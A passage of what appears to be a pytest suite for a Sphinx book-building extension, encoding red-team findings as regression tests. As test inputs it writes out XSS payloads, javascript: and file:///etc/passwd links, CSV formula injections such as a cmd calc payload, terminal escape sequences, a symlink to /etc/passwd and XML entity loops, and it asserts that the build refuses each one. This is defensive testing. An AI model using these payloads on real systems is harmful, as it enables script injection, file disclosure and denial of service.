    """Red team J: ``file_insertion_enabled: yes`` in a docutils.conf beside conf.py overrode the
    build's own setting, and a csv-table printed a file from outside the book."""
    secret = tmp_path / "secret.csv"
    secret.write_text("SECRET-CANARY,x\n", encoding="utf-8")
    srcdir = project("checks")
    write("docutils.conf", "[general]\nfile_insertion_enabled: yes\nraw_enabled: yes\n")(srcdir)
    append(f"```{{csv-table}} Data\n:file: {secret}\n```", "other.md")(srcdir)
    app = make_app("html", srcdir=srcdir)
    app.build()
    assert "SECRET-CANARY" not in (app.outdir / "other.html").read_text(encoding="utf-8")
    assert f"{srcdir / 'docutils.conf'}:1: WARNING: docutils.conf is not read" in warnings_text(app)


@pytest.mark.parametrize(("name", "said"), [("café.svg", []), ("a map.svg", ["'a map.svg'"])])
def test_a_picture_is_judged_by_the_name_the_author_gave(make_app, project, name: str, said: list[str]) -> None:
    """Red team AB: MyST writes ``![e](é.png)`` as ``%C3%A9.png``, and Sphinx said it could not
    read a file the author never wrote. The picture is found under the name the author gave,
    and a name the book refuses (a space breaks EPUB readers) is refused by that name."""
    srcdir = project("checks")
    (srcdir / name).write_text(SVG_OPEN + "<rect width='10' height='10'/></svg>", encoding="utf-8")
    append(f"![A drawing](<{name}>)")(srcdir)
    warnings = build(make_app, srcdir)
    assert [quoted for quoted in said if any(quoted in w.message for w in warnings)] == said
    assert len(warnings) == len(said) and not re.search(r"%[0-9A-F]{2}", "".join(w.message for w in warnings))


def test_a_books_translation_catalog_fails_the_build_at_its_file(make_app, project) -> None:
    """Red team J: a ``sphinx.po`` translated the theme's "Search" into an image with an
    ``onerror`` script, printed unescaped into every page; a ``sphinx.mo`` linked outside the
    book was overwritten. Sphinx reads catalogs before any extension runs: a book sets
    ``locale_dirs = []``, and one that does not is told at the catalog."""
    srcdir = project("checks")
    write("locales/en/LC_MESSAGES/sphinx.po", 'msgid "Search"\nmsgstr "Search<img src=x onerror=alert(1)>"\n')(srcdir)
    app = make_app("dummy", srcdir=srcdir)
    assert re.search(r"sphinx\.[mp]o:1: WARNING: \d translation catalog\(s\) in the book", warnings_text(app))
    assert app.config.locale_dirs == []


def test_this_book_and_every_new_book_read_no_translation_catalog() -> None:
    assert runpy.run_path(str(REPO / "conf.py"))["locale_dirs"] == []
    template = REPO / "sphinx_briefing" / "scaffold" / "templates" / "book" / "conf.py.tmpl"
    assert "\nlocale_dirs: list[str] = []\n" in template.read_text(encoding="utf-8")


def test_a_passage_citing_more_than_a_statement_rests_on_is_refused_at_its_line(make_app, project) -> None:
    """Red team J: every line of a page citing a 2,000-paragraph range was weighed against
    all of it, 2.2 s a line. A passage may cite 100,000 characters in all."""
    srcdir = project("checks")
    paragraphs = "\n\n".join(
        f"The harbor board met for the {n}th time and voted on the budget again." for n in range(2_000)
    )
    header = "---\nid: big\ntitle: Big\ndateline: X\ndate: '2017'\ndate_basis: Stated.\n---\nBig\n\n"
    write("source/big.md", header + paragraphs + "\n")(srcdir)
    prepend('briefing_default_source = "sample"\n', "conf.py")(srcdir)
    page = "# Wide\n\n```{source-exclude} big:1-2000\nTest filler.\n```\n\nThe board voted {cite}`big:1-2000`.\n"
    write("wide.md", page)(srcdir)
    replace("```{toctree}\nother\n", "```{toctree}\nother\nwide\n")(srcdir)
    app = make_app("dummy", srcdir=srcdir)
    app.build()
    line = line_of(srcdir / "wide.md", "The board voted")
    found = {(Path(w.path).name, w.line, w.subtype) for w in warnings_in(app)}
    assert ("wide.md", line, "briefing.cited-length") in found, warnings_text(app)
    assert {subtype for _name, _line, subtype in found} == {"briefing.cited-length"}, warnings_text(app)


#: Classes the shipped stylesheets hide only in passing: a tab not chosen, a dropdown's
#: marker, an empty badge, a button's or an icon's part, a background or an outline.
HIDDEN_IN_PASSING = frozenset(
    {"sd-tab-content", "sd-summary-title", "sd-badge", "sd-btn", "sd-octicon", "sd-step", "literal"}
    | {"fa-caret-down", "sd-bg-transparent", "sd-outline-transparent", "no-title"}
)
_HIDES = re.compile(
    r"display:\s*none|visibility:\s*hidden|opacity:\s*0(?![.\d])|font-size:\s*0(?![.\d])|color:\s*transparent"
)


def classes_the_stylesheets_hide() -> set[str]:
    """Each class that a rule of Furo's, sphinx-design's or this extension's stylesheets hides
    (display, visibility, opacity, font size, colour) on the element that carries it."""
    sheets = [
        *(Path(furo.__file__).parent / "theme" / "furo" / "static" / "styles").glob("*.css"),
        *(Path(sphinx_design.__file__).parent / "static").glob("*.css"),
        *(REPO / "sphinx_briefing" / "web" / "static").glob("*.css"),
    ]
    found: set[str] = set()
    for sheet in sheets:
        css = re.sub(r"/\*.*?\*/", "", sheet.read_text(encoding="utf-8"), flags=re.S)
        for rule in re.finditer(r"([^{}]+)\{([^{}]*)\}", css):
            if _HIDES.search(rule[2]):
                for selector in rule[1].split(","):
                    subject = re.split(r"[\s>+~]+", selector.strip())[-1]
                    found |= set(re.findall(r"\.([A-Za-z_][\w-]*)", subject))
    return found


def test_every_class_the_stylesheets_hide_is_refused_on_a_page() -> None:
    """Red team J hid paragraphs with ``sd-d-none``, red team K with ``no-toc``: a list of
    such classes is kept honest by reading the stylesheets the book ships."""
    missed = {name for name in classes_the_stylesheets_hide() - HIDDEN_IN_PASSING if not hides(name)}
    assert not missed, f"classes that hide on the web but are not refused: {sorted(missed)}"


def test_two_pages_named_alike_in_two_unicode_forms_are_named_at_a_line(make_app, project) -> None:
    """Red team I: NFC ``café.md`` and NFD ``café.md`` are two files but one page to Sphinx,
    whose own warning names no line and not which it read."""
    srcdir = project("checks")
    for form in ("NFC", "NFD"):
        write(unicodedata.normalize(form, "café.md"), f"---\norphan: true\n---\n# Café {form}\n\nText.\n")(srcdir)
    app = make_app("dummy", srcdir=srcdir)
    app.build()
    ours = [line for line in warnings_text(app).splitlines() if "[briefing.page-name]" in line]
    assert len(ours) == 1 and re.match(
        r"^.+café\.md:1: WARNING: 2 files are named café\.md, spelled in different", ours[0]
    )


@pytest.mark.parametrize("folder", [".private", ".github", "docs/.notes"])
def test_a_page_in_a_dot_folder_is_no_page_of_the_book(make_app, project, folder: str) -> None:
    """Red team I: `.private/notes.md` was read and published as a page (a repository's
    `.github/*.md` would be too); dot-folders hold no book pages."""
    srcdir = project("checks")
    write(f"{folder}/notes.md", "# Notes\n\nThe deploy password is hunter-two-canary.\n")(srcdir)
    app = make_app("html", srcdir=srcdir)
    app.build()
    assert not [path for path in Path(app.outdir).rglob("*") if path.is_file() and b"hunter-two" in path.read_bytes()]


@pytest.mark.parametrize(
    ("edit", "named"),
    [
        (replace("date_basis: Stated in the test.\n", "", SOURCE), SOURCE),
        (moved_out("source"), "source"),
        (
            lambda root: (
                moved_out("source")(root),
                prepend('briefing_default_source = "sample"\n', "conf.py")(root),
            ),
            "source",
        ),
    ],
    ids=[
        "a source with a bad header",
        "a source folder outside the book",
        "a source folder outside a book that names its default source",
    ],
)
def test_a_source_that_fails_to_load_is_reported_once(make_app, project, edit: Edit, named: str) -> None:
    """Red team H: a source folder outside the book was reported, then 353 warnings more
    followed from it (unknown sources, and quotations said to cite nothing)."""
    srcdir = project("checks")
    edit(srcdir)
    found = build(make_app, srcdir)
    assert [(w.subtype, w.path.endswith(named)) for w in found] == [("briefing.source", True)], found


@pytest.mark.parametrize(
    ("line", "unread"),
    [
        ("Trust is hard {cite}`2`.", False),
        ("Trust is hard {cite}``2``.", False),
        ("Use the `{cite}` role.", False),  # inline code that shows the role's name
        ("Write \\{cite\\}`2` as text.", False),  # escaped: the author means the characters
        (":measures: New {term}`schools", False),  # an option: briefing.option-markup names it
        ("Trust is hard {cite}``.", True),
        ("Trust is hard {cite}`2.", True),
    ],
)
def test_a_role_is_unread_only_where_myst_prints_its_markup(line: str, unread: bool) -> None:
    from sphinx_briefing.checks.unclosed import _unread_roles

    assert bool(list(_unread_roles([line]))) is unread


# -- proven harmless ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.cookie)",
        "vbscript:msgbox",
        "file:///etc/passwd",
        "data:text/html;base64,PHNjcmlwdD4=",
    ],
)
def test_links_that_would_run_or_open_local_files_are_never_links(make_app, project, link: str) -> None:
    """MyST refuses these schemes itself (it prints the markup as text); the page has no such href."""
    srcdir = project("checks")
    inserted(f"A [link]({link}) here.")(srcdir)
    build(make_app, srcdir)
    page = (srcdir / "_build" / "html" / "index.html").read_text(encoding="utf-8")
    assert f'href="{link}' not in page


@pytest.mark.parametrize(
    "transform",
    [lambda b: b"\xef\xbb\xbf" + b, lambda b: b.replace(b"\n", b"\r\n")],
    ids=["byte-order mark", "CRLF line ends"],
)
def test_editor_artefacts_in_a_source_are_accepted(make_app, project, transform: Callable[[bytes], bytes]) -> None:
    srcdir = project("checks")
    raw_bytes(transform)(srcdir)
    assert build(make_app, srcdir) == []


@pytest.mark.parametrize("value", ["Yes", "NO", "012", "3.2"])
def test_header_values_print_as_written(make_app, project, value: str) -> None:
    srcdir = project("checks")
    replace("dateline: TESTVILLE", f"dateline: {value}", SOURCE)(srcdir)
    assert build(make_app, srcdir) == []
    assert f"<p>{value}</p>" in (srcdir / "_build" / "html" / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://x")',
        "-1+2",
        "@SUM(A1)",
        "\t=x",
        "\r+x",
        "Then-head;=cmd|' /C calc'!A0;of U.S. Northern Command",
        "x\t@SUM(A1)",
        "Stray: `x;\"=cmd|' /C calc'!A0;` end",
    ],
)
def test_csv_cells_never_start_a_formula(name: str) -> None:
    """However a spreadsheet splits the cell (red team J: at a semicolon, as many languages
    do), no stretch of it runs: the book's export passes the book's own download check. A
    stretch opening with a quotation mark ran too: the CSV writer doubles it, and a
    spreadsheet reads the doubled mark as an empty quoted start (red team AB)."""

    def as_csv(cell: str) -> bytes:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerow(["id", cell])
        return buffer.getvalue().encode("utf-8")

    assert csv_problem(as_csv(name)) is not None
    assert csv_problem(as_csv(safe_cell(name))) is None
    assert safe_cell(name).replace("'", "") == name.replace("'", "")


def test_csv_cells_keep_text_and_numbers_as_they_are() -> None:
    assert safe_cell(["=A1", "b"]) == "'=A1; b"
    assert safe_cell(["b", "=A1"]) == "b; '=A1"
    assert [safe_cell(text) for text in ("Ann Lee", "-5", "+1.5%", "1,200")] == ["Ann Lee", "-5", "+1.5%", "1,200"]


def test_a_formula_in_a_record_is_exported_as_text(make_app, project) -> None:
    srcdir = project("checks")
    replace(":name: Ann Lee", ':name: =HYPERLINK("http://x")')(srcdir)
    build(make_app, srcdir)
    csv = (srcdir / "_build" / "html" / "_data" / "persons.csv").read_text(encoding="utf-8")
    assert re.search(r"^lee,\"'=HYPERLINK", csv, re.MULTILINE), csv


def test_a_paragraph_placed_nowhere_is_listed_as_unplaced(make_app, project) -> None:
    """The build warns, and the coverage data and report still list the paragraph:
    a book's own tests read the data, so a forgotten paragraph must be in it."""
    srcdir = project("checks")
    append("A new paragraph nobody placed.", SOURCE)(srcdir)
    build(make_app, srcdir)
    html = srcdir / "_build" / "html"
    coverage = json.loads((html / "_data" / "coverage.json").read_text(encoding="utf-8"))
    last = max(coverage, key=lambda row: row["paragraph"])
    assert (last["placed_in"], last["excluded"]) == ([], "")
    annex = next(
        page.read_text(encoding="utf-8")
        for page in html.glob("*.html")
        if "bb-annex-paragraph" in page.read_text(encoding="utf-8")
    )
    assert "Not placed: in no chapter, and not excluded" in annex


def test_front_matter_runs_no_template_and_sets_no_metadata(make_app, project) -> None:
    """The refused keys never reach MyST: ``{{ 7 * 7 }}`` stays text, and no refresh is written."""
    srcdir = project("checks")
    for edit in CASES["front matter that switches on substitutions"][0] + CASES["front matter with html_meta"][0]:
        edit(srcdir)
    build(make_app, srcdir)
    page = (srcdir / "_build" / "html" / "index.html").read_text(encoding="utf-8")
    assert "Value {{x}}." in page and "49" not in page
    assert "refresh" not in page


@pytest.mark.parametrize("setting", ["project", "html_title"])
def test_the_books_title_is_text_in_every_page(make_app, project, setting: str) -> None:
    """``make new`` writes the article's headline into ``project`` (and ``html_title``); the
    theme's sidebar printed it as HTML, so a headline with a script ran on every page."""
    srcdir = project("checks")
    build(make_app, srcdir, html_theme="furo", **{setting: "<script>alert(1)</script> & Co"})
    site = "".join(path.read_text(encoding="utf-8") for path in (srcdir / "_build" / "html").rglob("*.html"))
    assert "<script>alert" not in site
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; Co" in site
    assert "&amp;lt;" not in site, "escaped once, not twice"


def test_math_and_metadata_reach_no_page(make_app, project) -> None:
    """Refused by name, math leaves no MathJax to fetch and meta no tag in any output."""
    srcdir = project("checks")
    for case in ("math directive", "math role", "meta directive", "meta directive in eval-rst"):
        for edit in CASES[case][0]:
            edit(srcdir)
    build(make_app, srcdir)
    site = "".join(path.read_text(encoding="utf-8") for path in (srcdir / "_build" / "html").rglob("*.html"))
    assert "mathjax" not in site.lower() and "refresh" not in site
    assert "Energy a + b here." in site, "a refused role keeps its text"


def preview_bytes(make_app, project, paragraphs: int, citations: int = 20) -> int:
    """The bytes of previews on a page that cites the whole of a source of ``paragraphs``
    paragraphs ``citations`` times."""
    srcdir = project("checks")
    srcdir = srcdir.rename(srcdir.with_name(f"long-{paragraphs}"))
    append("\n\n".join(f"Paragraph {n} of a long source, said the mayor." for n in range(5, paragraphs + 1)), SOURCE)(
        srcdir
    )
    append(" ".join([f"The mayor {{cite}}`1-{paragraphs}`."] * citations), "other.md")(srcdir)
    app = make_app("html", srcdir=srcdir)
    app.build()
    app.cleanup()  # the next app registers Sphinx's nodes afresh
    page = (srcdir / "_build" / "html" / "other.html").read_text(encoding="utf-8")
    tips = re.findall(r'<span class="bb-preview"[^>]*>(.*?)</span>', page, re.DOTALL)
    assert len(tips) >= citations
    return sum(len(tip.encode()) for tip in tips)


def test_a_preview_is_bounded_whatever_the_range(make_app, project) -> None:
    """Each citation previews the start of its range: 16 times the range, the same page."""
    sizes = [preview_bytes(make_app, project, paragraphs) for paragraphs in (50, 800)]
    assert sizes[1] <= sizes[0] * 1.05, sizes


def test_pages_citing_a_wide_range_name_a_bounded_number_of_pages(make_app, project) -> None:
    """Red team N: 100 one-line pages citing ¶1–1000 wrote every page under every paragraph
    of the annex and the coverage report (9 MB each, 96 s). A range is one entry, and a
    paragraph names the first pages that cite it, in name order, and counts the rest."""
    srcdir = project("checks")
    pages = SHOWN + 5
    for number in range(pages):
        page = "---\norphan: true\n---\n# Page {0}\n\nThe mayor spoke {{cite}}`1-3`.\n\nHe spoke {{cite}}`2-3`.\n"
        (srcdir / f"p{number:02}.md").write_text(page.format(number), encoding="utf-8")
    app = make_app("html", srcdir=srcdir)
    app.build()
    spans = [(c.first, c.last) for c in briefing_domain(app.env).citations() if c.docname == "p00"]
    assert spans == [(1, 3), (2, 3)], "one entry per range"
    coverage = json.loads((app.outdir / "_data" / "coverage.json").read_text(encoding="utf-8"))
    third = next(row for row in coverage if row["paragraph"] == 3)
    assert third["cited_in_count"] == pages + 2 and len(third["cited_in"]) == SHOWN
    assert third["cited_in"][:3] == ["index", "other", "p00"]
    annex = (app.outdir / "index.html").read_text(encoding="utf-8")
    assert annex.count(" and 6 more pages") == 2 and annex.count(" and 7 more pages") == 1
    assert 'href="p18.html"' in annex and 'href="p19.html"' not in annex


def test_a_paragraph_placed_again_and_a_reason_print_their_text_once(make_app, project) -> None:
    """Each further placement of a paragraph printed the source's text again (100 pages of
    ``{source-paragraphs} 1-2000`` printed a 2 MB source 100 times), and an exclusion printed
    its reason once a paragraph. Placed again, a paragraph is still ``placed-twice``."""
    srcdir = project("checks")
    reason = "A reason-text " * 300
    for number in range(10):
        page = f"---\norphan: true\n---\n# Page {number}\n\n```{{source-paragraphs}} 1-3\n```\n"
        (srcdir / f"p{number}.md").write_text(page, encoding="utf-8")
    (srcdir / "x.md").write_text(f"---\norphan: true\n---\n# X\n\n```{{source-exclude}} 1-3\n{reason}\n```\n")
    warnings = build(make_app, srcdir)
    assert sum(w.subtype == "briefing.placed-twice" for w in warnings) == 10 * 3 + 3
    pages = [(srcdir / "_build" / "html" / f"p{number}.html").read_text(encoding="utf-8") for number in range(10)]
    assert not [page for page in pages if "difficult thing to build" in page]
    assert (srcdir / "_build" / "html" / "x.html").read_text(encoding="utf-8").count("reason-text") == 300


@pytest.mark.parametrize("code", [False, True], ids=["code refused", "code enabled"])
@pytest.mark.parametrize("language", ["easytrieve", "markdown", "rst"])
def test_a_code_block_is_highlighted_only_in_a_common_language_on_a_page_that_may_show_it(
    make_app, project, code: bool, language: str
) -> None:
    """Red team O: Pygments' Easytrieve lexer took 24 s on 2,000 tabs, and a block the build
    refuses was highlighted all the same. Red team W: the Markdown and reST lexers highlight
    a block inside in the language it names (Easytrieve again, 120 s), and Markdown's is
    quadratic in the lines."""
    srcdir = project("checks")
    blocks = f"````{{code-block}} {language}\n" + "\t" * 50 + "x\n````\n\n```python\nx = 1\n```\n"
    append(blocks, "other.md")(srcdir)
    app = make_app("html", srcdir=srcdir, confoverrides={"briefing_code": code})
    app.build()
    page = (app.outdir / "other.html").read_text(encoding="utf-8")
    assert f"highlight-{language}" not in page and page.count("highlight-none") == (1 if code else 2)
    assert ("highlight-python" in page) is code


def test_a_reference_shows_a_bounded_part_of_a_long_record_title(make_app, project) -> None:
    """Red team P: a reference without a title of its own printed the record's whole title, as
    its text and again as its tooltip, at every use: a 2,000-word title made 50 MB of page."""
    srcdir = project("checks")
    title = " ".join(["The mayor opens schools"] * 100)
    replace(":title: The mayor opens 12 new schools", f":title: {title}")(srcdir)
    append("The mayor spoke {cite}`3`. " + " ".join(["See {event}`schools`."] * 20), "other.md")(srcdir)
    build(make_app, srcdir)
    page = (srcdir / "_build" / "html" / "other.html").read_text(encoding="utf-8")
    assert title not in page and page.count(shortened(title)) == 40 and len(shortened(title)) <= SHOWN_LABEL + 1


# -- the command line: a failing build exits non-zero, with warnings only ------------------------------


#: The cases that could make a build hang or grow without bound, and the two that once raised.
COMMAND_LINE_CASES = [
    "record id with markup",
    "source that is a FIFO",
    "citation of a hundred million paragraphs",
    "misquote in CJK marks",
    "include of /dev/zero",
    "billion laughs",
    "source of nearly 2 MB of NUL bytes",
    "source that is a symlink to /dev/zero",
    "source over the size limit",
    # web and containment: a deep parse, files that never end, a crash in the table of contents
    "lists nested 100 deep in eval-rst",
    "lists nested 100 deep in an rst page",
    "image wildcard reaching /dev/zero",
    "image that is a FIFO",
    "download in a heading",
    "SVG image with an entity loop",
]
MEMORY_CEILING = 500 * 1024 * 1024


def measured_build(srcdir: Path, outdir: Path, logs: Path) -> tuple[int, str, int]:
    """Build strictly in a process of its own; return its exit code, its stderr and its peak
    memory in bytes (``wait4`` reports this child's own peak, not the test runner's).
    Colour is forced, as CI services do, to prove the messages stay plain text."""
    with (logs / "build.out").open("wb") as out, (logs / "build.err").open("wb") as err:
        process = subprocess.Popen(
            sphinx_command(srcdir, "html", outdir),
            stdout=out,
            stderr=err,
            cwd=srcdir,
            env={**os.environ, "FORCE_COLOR": "1"},
        )
        watchdog = threading.Timer(300, process.kill)
        watchdog.start()
        _, status, usage = os.wait4(process.pid, 0)
        watchdog.cancel()
    process.returncode = os.waitstatus_to_exitcode(status)
    return process.returncode, (logs / "build.err").read_text(), usage.ru_maxrss * 1024


@pytest.mark.parametrize("case", COMMAND_LINE_CASES)
def test_a_bad_build_exits_non_zero_with_warnings_and_no_traceback(project, tmp_path: Path, case: str) -> None:
    srcdir = project("checks")
    for edit in CASES[case][0]:
        edit(srcdir)
    code, stderr, peak = measured_build(srcdir, tmp_path / "out", tmp_path)
    assert code == 1, f"killed after 300 s or crashed: exit {code}\n{stderr}"
    assert "Traceback" not in stderr
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert lines and all(re.match(r"^.+:\d+: WARNING: .* \[[\w.-]+\]$", line) for line in lines), stderr
    assert peak < MEMORY_CEILING, f"the build peaked at {peak // 2**20} MB"


# -- quotations, every text a reader sees, bounded checks: what passes, what the messages say ----------


@pytest.mark.parametrize(
    "sentence",
    [
        'In the article\'s words, analysts say the new schools need "300 more teachers from abroad" {cite}`3`.',
        'The article says the mayor opened schools in the "city centre" {cite}`3`.',
        'Lee says trust is not "easy to repair" {cite}`2`.',
        'Lee says "[trust] is a very, very difficult thing to build" {cite}`2`.',
        "> Trust is a very, very difficult thing to build {cite}`2`, said Ann Lee.",
    ],
)
def test_the_faithful_forms_build_clean(make_app, project, sentence: str) -> None:
    srcdir = project("checks")
    inserted(sentence)(srcdir)
    assert build(make_app, srcdir) == []


def test_a_misquote_by_a_look_alike_letter_names_it(make_app, project) -> None:
    srcdir = project("checks")
    inserted('Lee calls trust "a very, very diffic\u0443lt thing to build" {cite}`2`.')(srcdir)
    [warning] = build(make_app, srcdir)
    assert "U+0443 CYRILLIC SMALL LETTER U" in warning.message


def test_the_front_matter_a_page_may_set_builds_clean(make_app, project) -> None:
    srcdir = project("checks")
    prepend("---\norphan: true\ntocdepth: 2\nnosearch: true\n---\n")(srcdir)
    assert build(make_app, srcdir) == []


def test_a_mistake_repeated_on_one_line_is_one_warning_there(make_app, project) -> None:
    """One line of 40,000 "Jan." gave 40,000 identical warnings (a 14 MB log); the same
    mistake on another line is still reported there."""
    srcdir = project("checks")
    inserted("Lee spoke in " + "Jan. " * 400 + "about trust.\n\nLee spoke again in Jan. about schools.")(srcdir)
    found = [(w.subtype, w.line) for w in build(make_app, srcdir)]
    assert sorted(set(found)) == sorted(found), "no warning twice at one place"
    assert [subtype for subtype, _line in found].count("briefing.relative-date") == 2, found


def test_no_warning_prints_a_terminal_escape_sequence(make_app, project) -> None:
    """Quoted in a warning raw, ESC ] 0 ; … BEL retitled the terminal of whoever read the CI
    log, and ESC [ 2 J cleared it: a message shows each control character as its code."""
    srcdir = project("checks")
    inserted('Lee said "\x1b]0;pwned\x07\x1b[2Jcleared \u202eevil" {cite}`2`.')(srcdir)
    messages = [warning.message for warning in build(make_app, srcdir)]
    assert any("<U+001B>]0;pwned<U+0007>" in message for message in messages), messages
    assert not [message for message in messages if "\x1b" in message or "\x07" in message or "\u202e" in message]


#: Inputs that once cost minutes or gigabytes in one check; each must now fail fast and small.
BOUNDED_CASES = {
    "five thousand headings of one title": [
        lambda root: (root / "heads.md").write_text(headings_page(5_000), encoding="utf-8")
    ],
    "quotation in nine pieces against a long paragraph": [
        raw_bytes(lambda b: b.replace(b"[A link to another story]", b"a not " * 50_000 + b"b")),
        inserted('Lee said "a \u2026 a \u2026 a \u2026 a \u2026 a \u2026 a \u2026 a \u2026 a \u2026 c" {cite}`4`.'),
    ],
    "ten thousand quoted numbers": [inserted('The mayor gives "13" ' * 10_000 + "{cite}`3`.")],
    "fifty thousand combining marks on one letter": [
        raw_bytes(
            lambda b: b.replace(b"Lee spoke about", ("Le" + "\u0301" * 50_000 + "e spoke about").encode()), "index.md"
        )
    ],
}


@pytest.mark.parametrize("case", sorted(BOUNDED_CASES))
def test_a_costly_input_fails_fast_without_a_traceback(project, tmp_path: Path, case: str) -> None:
    srcdir = project("checks")
    for edit in BOUNDED_CASES[case]:
        edit(srcdir)
    code, stderr, peak = measured_build(srcdir, tmp_path / "out", tmp_path)
    assert code == 1, f"killed after 300 s or crashed: exit {code}\n{stderr[-2000:]}"
    assert "Traceback" not in stderr
    assert peak < MEMORY_CEILING, f"the build peaked at {peak // 2**20} MB"


# -- print: what reaches Typst -------------------------------------------------------------------------


def picture(name: str, data: bytes) -> Edit:
    return lambda root: (root / name).write_bytes(data)


#: Cases that need the PDF builder: (edits, expected subtype(s), file, marker text or line[, also allowed]).
PDF_CASES: dict[str, tuple[list[Edit], str, str, str | int]] = {
    "list numbered from a 20-digit number": (
        [inserted("```{eval-rst}\n12345678901234567890. first\n12345678901234567891. second\n```")],
        "briefing.pdf-text",
        "index.md",
        "12345678901234567890. first",
    ),
    "noncharacter in a heading": (
        [inserted("## Trust \uffff and schools")],
        "briefing.pdf-text",
        "index.md",
        "## Trust",
        "briefing.hidden-character",
    ),
    "letter under 500 combining marks": (
        [inserted("Lee spoke of a" + "\u0301" * 500 + " here.")],
        "briefing.pdf-text",
        "index.md",
        "Lee spoke of a",
        "briefing.stacked-marks",
    ),
    "characters no font of the PDF has": (
        [append("The city's twin is 東京.", "other.md")],
        "briefing.pdf",
        "other.md",
        "The city's twin",
    ),
    "damaged PNG": (
        [picture("bad.png", DAMAGED_PNG), append("![A damaged picture](bad.png)", "other.md")],
        "briefing.broken-picture",
        "other.md",
        "![A damaged picture]",
    ),
}


def printed_warnings(make_app, srcdir: Path) -> list:
    app = make_app("briefingpdf", srcdir=srcdir, confoverrides={"nitpicky": True})
    app.build()
    return warnings_in(app)


def test_the_clean_root_prints_without_warnings(make_app, project) -> None:
    """Its chapter cites the annex on the root page: a link from one page to another, printed."""
    assert printed_warnings(make_app, project("checks")) == []


@pytest.mark.parametrize("case", sorted(PDF_CASES))
def test_what_the_pdf_cannot_print_fails_with_its_subtype_on_its_line(make_app, project, case: str) -> None:
    assert_case(PDF_CASES[case], project("checks"), lambda srcdir: printed_warnings(make_app, srcdir))


@pytest.mark.parametrize(
    "edits",
    [
        [symlink("leak.svg", "/etc/passwd"), append("![A leak](leak.*)", "other.md")],
        [fifo("pipe.png"), append("![A pipe](pipe.*)", "other.md")],
        [
            picture(
                "loop.svg",
                b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n'
                b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&a;</text></svg>',
            ),
            append("![A loop](loop.svg)", "other.md"),
        ],
    ],
    ids=["picture behind a wildcard that links to /etc/passwd", "picture that is a FIFO", "SVG entity loop"],
)
def test_a_picture_the_pdf_must_not_read_fails_the_print_naming_its_line_and_quoting_nothing(
    project, tmp_path: Path, edits: list[Edit]
) -> None:
    """Refused by the time Typst would read it (whichever check refuses it), in a process of
    its own that must end: a FIFO read would wait forever. No line of the file is in the log."""
    srcdir = project("checks")
    for edit in edits:
        edit(srcdir)
    result = subprocess.run(
        sphinx_command(srcdir, "briefingpdf", tmp_path / "pdf"), capture_output=True, text=True, cwd=srcdir, timeout=300
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert lines and all(re.match(r"^.+other\.md:\d+: WARNING: .* \[briefing\.[\w-]+\]$", line) for line in lines), (
        result.stderr
    )
    assert "root:" not in result.stderr + result.stdout and "ENTITY" not in result.stderr, result.stderr


@pytest.mark.parametrize(("builder", "output"), [("html", "other.html"), ("briefingpdf", "book.typ")])
def test_a_reference_prints_a_long_caption_cut(make_app, project, builder: str, output: str) -> None:
    """Red team R: a ``{ref}`` with no title of its own printed the whole caption of the
    figure it named at every use (an 18 KB caption named 2,000 times: a 36 MB page, and the
    PDF out of memory at 500). The caption stands whole once; each reference cuts it."""
    caption = "Captionword " * 400
    figure = f"```{{figure}} tiny.svg\n:name: fig-long\n\n{caption}\n```\n\n"
    uses = "".join("See {ref}`fig-long`.\n\n" for _ in range(20))
    srcdir = project(
        "checks",
        **{
            "tiny.svg": lambda _old: '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>',
            "other.md": lambda old: f"{old}\n{figure}{uses}",
        },
    )
    app = make_app(builder, srcdir=srcdir, confoverrides={"nitpicky": True})
    app.build()
    assert warnings_text(app) == ""
    printed = (app.outdir / output).read_text(encoding="utf-8")
    assert printed.count("Captionword") < 400 + 20 * 30, printed.count("Captionword")
    assert printed.count("Captionword Captionword…") >= 20


def test_pages_each_listing_every_page_make_one_tree(make_app, project) -> None:
    """Ten pages each listing ``*`` with ``:glob:`` stopped Sphinx with a recursion error
    naming no page; each listing also printed every page's headings again. Each page is
    listed once, by the first listing in reading order, and every other listing is named."""
    srcdir = project(
        "checks", **{"index.md": lambda old: old.replace("```{toctree}\nother\n", "```{toctree}\nother\ng/p0\n")}
    )
    (srcdir / "g").mkdir()
    for number in range(10):
        page = f"# Page {number}\n\n## Part {number}\n\n```{{toctree}}\n:glob:\n\n*\n```\n"
        (srcdir / "g" / f"p{number}.md").write_text(page, encoding="utf-8")
    app = make_app("html", srcdir=srcdir)
    app.build()
    warnings = warnings_in(app)
    assert warnings and {warning.subtype for warning in warnings} == {"briefing.printed-twice"}, warnings
    assert all(warning.path.endswith(".md") and warning.line == 5 for warning in warnings), warnings
    html = (app.outdir / "g" / "p0.html").read_text(encoding="utf-8")
    assert all(html.count(f'href="p{number}.html">Page {number}<') == 1 for number in range(1, 10)), html[-3000:]


def test_a_page_of_misquotes_searches_for_the_closest_text_a_bounded_number_of_times(make_app, project) -> None:
    """Red team U: each misquote searched every cited paragraph for the closest text, so
    2,000 misquotes of a 99 KB paragraph took 37 s. The first of a page show it; every
    misquote is still named."""
    misquotes = "".join(f'Lee said "zebra number {n} arrived" {{cite}}`1`.\n\n' for n in range(MAX_CLOSEST + 5))
    srcdir = project("checks", **{"other.md": lambda old: f"{old}\n{misquotes}"})
    app = make_app("html", srcdir=srcdir)
    app.build()
    found = [w for w in warnings_in(app) if w.subtype == "briefing.misquote"]
    assert len(found) == MAX_CLOSEST + 5, found
    assert sum("closest source text" in w.message for w in found) == MAX_CLOSEST
    assert sum("the closest text is shown for the first" in w.message for w in found) == 5


def test_a_page_previews_a_bounded_number_of_links(make_app, project) -> None:
    """Red team X: each citation copied up to 600 characters of its paragraph into the page,
    so 1,500 citations a paragraph made a 780 KB page 43 MB. The first links of a page are
    previewed; the rest are plain links."""
    citations = " ".join(["The mayor {cite}`1`."] * (MAX_PREVIEWS + 20))
    srcdir = project("checks", **{"other.md": lambda old: f"{old}\n{citations}\n"})
    app = make_app("html", srcdir=srcdir)
    app.build()
